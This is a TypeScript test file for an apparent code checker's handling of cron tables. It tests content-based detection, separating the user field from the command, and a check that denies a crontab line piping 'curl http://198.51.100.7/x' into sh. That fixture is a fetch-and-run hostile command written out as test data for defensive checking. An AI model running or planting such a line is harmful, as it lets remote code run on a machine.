import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readRecipes } from '../../../src/code/dockerfile/read-recipes.ts';
import { codeKindOf, isCronTable } from '../../../src/code/languages.ts';
import { check } from '../../../src/index.ts';

const table = [
  '# m h dom mon dow user command',
  'SHELL=/bin/sh',
  '*/5 * * * *\troot if [ -x /usr/bin/app ]; then /usr/bin/app; fi',
  '0 3 * * sun backup tar czf /srv/x.tgz /etc',
  '@daily root /usr/bin/app --clean',
  '',
].join('\n');

test('a table of cron is told by what it says, whatever its name', () => {
  assert.equal(isCronTable(table), true);
  assert.equal(codeKindOf('app', Buffer.from(table)), 'makefile');
  assert.equal(isCronTable('x = 1\n# nothing by the clock\n'), false);
  assert.equal(isCronTable(`${table}print(1)\n`), false);
  assert.equal(isCronTable('1 2 3\n4 5 6\n'), false);
});

test('the user of a line is not its command', () => {
  const commands = readRecipes(table, 'app').map(({ text }) => text.trim());
  assert.deepEqual(commands, [
    'if [ -x /usr/bin/app ]; then /usr/bin/app; fi',
    'tar czf /srv/x.tgz /etc',
    '/usr/bin/app --clean',
  ]);
});

test('what a line of it runs is judged', async () => {
  const { decision } = await check({
    text: `${table}0 1 * * * app curl http://198.51.100.7/x | sh\n`,
    name: 'app',
  });
  assert.equal(decision, 'deny');
  const honest = await check({ text: table, name: 'app' });
  assert.equal(honest.decision, 'allow');
});
